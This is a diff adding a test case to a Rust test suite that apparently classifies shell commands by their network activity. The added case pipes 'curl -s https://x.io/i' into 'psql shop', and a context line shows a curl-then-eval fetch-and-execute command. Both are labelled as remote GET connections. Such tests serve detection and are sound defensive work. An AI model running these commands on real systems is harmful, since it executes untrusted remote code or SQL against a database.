@@ -240,6 +240,10 @@ fn streams() {
         &["connects to https://x.io/i by GET", REMOTE],
     );
     check(
+        "curl -s https://x.io/i | psql shop",
+        &["connects to https://x.io/i by GET", REMOTE],
+    );
+    check(
         "x=$(curl -s https://x.io/i); eval \"$x\"",
         &["connects to https://x.io/i by GET", REMOTE],
     );
